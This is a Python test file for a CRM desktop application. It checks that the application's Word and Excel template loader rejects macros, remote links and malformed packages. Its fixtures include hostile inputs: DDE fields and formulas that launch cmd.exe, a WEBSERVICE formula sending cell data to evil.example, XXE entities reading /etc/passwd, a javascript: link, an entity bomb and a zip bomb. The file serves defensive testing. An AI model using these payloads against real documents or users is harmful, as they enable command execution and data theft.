"""Templates are hostile until looked at: nothing in one may run, fetch or expand."""

from __future__ import annotations

import io
import zipfile

import pytest

from crm_desktop.core.errors import SourceProblem
from crm_desktop.exchange import office_package
from crm_desktop.exchange.office_package import open_package
from tests.exchange.office_files import P, R, docx, para, xlsx, zipped


def relations(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{P}/relationships"><Relationship Id="rId9" Type="{R}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


RELS = "word/_rels/document.xml.rels"
HOSTILE = {
    "macros": docx("", {"word/vbaProject.bin": b"x"}),
    "macros by type": docx("", kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "an embedded object": docx("", {"word/embeddings/oleObject1.bin": b"x"}),
    "a control": docx("", {"word/activeX/activeX1.xml": "<a/>"}),
    "a remote picture": docx("", {RELS: relations("image", "http://evil.example/pixel.png")}),
    "a remote object": docx("", {RELS: relations("oleObject", "http://evil.example/x")}),
    "a link to a local file": docx("", {RELS: relations("hyperlink", "file:///etc/passwd")}),
    "a script as link": docx("", {RELS: relations("hyperlink", "javascript:alert(1)")}),
    "a field that starts a program": docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
        '</w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>'
    ),
    "a field that reads a file": docx(
        '<w:p><w:fldSimple w:instr=" includetext &quot;/etc/passwd&quot; "/></w:p>'
    ),
    "a formula that asks the network": xlsx(
        lambda sheet: sheet.append(['=WEBSERVICE("http://evil.example/?"&A2)'])
    ),
    "a formula that starts a program": xlsx(lambda sheet: sheet.append(["=cmd|'/c calc'!A1"])),
    "a link made of data": xlsx(lambda sheet: sheet.append(['=HYPERLINK("http://x/"&A2,"x")'])),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_run_or_fetch_is_refused_by_name(name: str) -> None:
    with pytest.raises(SourceProblem, match="A template may not"):
        open_package(HOSTILE[name], "quote.docx")


BOMB = '<!DOCTYPE a [<!ENTITY b "{}">]><a>{}</a>'
BROKEN = {
    "nothing": b"",
    "text": b"Dear customer",
    "no package": zipped({"a.txt": "hello"}),
    "half of one": docx(para("hello"))[:-60],
    "entities": docx("", {"word/document.xml": BOMB.format("x" * 999, "&b;" * 999)}),
    "an outside entity": docx(
        "",
        {"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    ),
    "broken markup": docx("<w:p>"),
    "another encoding": docx(
        "", {"word/document.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")}
    ),
    "endless nesting": docx("<w:p>" * 5_000 + "</w:p>" * 5_000),
    "the same part twice": docx("", {"WORD/document.xml": "<a/>"}),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_broken_is_a_sentence(name: str) -> None:
    with pytest.raises(SourceProblem, match="damaged"):
        open_package(BROKEN[name], "quote.docx")


def test_old_or_protected_files_are_told_apart() -> None:
    with pytest.raises(SourceProblem, match="password"):
        open_package(b"\xd0\xcf\x11\xe0" + b"\0" * 600, "quote.doc")
    with pytest.raises(SourceProblem, match="neither"):
        open_package(docx("", kind="application/x-other"), "slides.pptx")


def test_a_bomb_is_not_unpacked() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<a/>")
        for number in range(5):
            archive.writestr(f"word/media/{number}.bin", b"\0" * (15 * 1024**2))
    assert len(target.getvalue()) < 200_000
    with pytest.raises(SourceProblem, match="too large"):
        open_package(target.getvalue(), "quote.docx")


def test_a_merged_area_of_the_whole_sheet_is_refused_before_anything_walks_it() -> None:
    content = xlsx(lambda sheet: sheet.merge_cells("A1:B2"))
    package = open_package(content, "quote.xlsx")
    sheet = package.parts["xl/worksheets/sheet1.xml"].replace(b"A1:B2", b"A1:XFD1048576")
    with pytest.raises(SourceProblem, match="too large"):
        open_package(office_package.packed(package, {"xl/worksheets/sheet1.xml": sheet}), "q.xlsx")


def test_ordinary_links_are_no_offence() -> None:
    for kind, target in (
        ("hyperlink", "https://shop.example"),
        ("hyperlink", "mailto:shop@example.com"),
        ("attachedTemplate", "file:///C:/Users/me/Normal.dotm"),
    ):
        assert open_package(docx("", {RELS: relations(kind, target)}), "a.docx").kind == "docx"
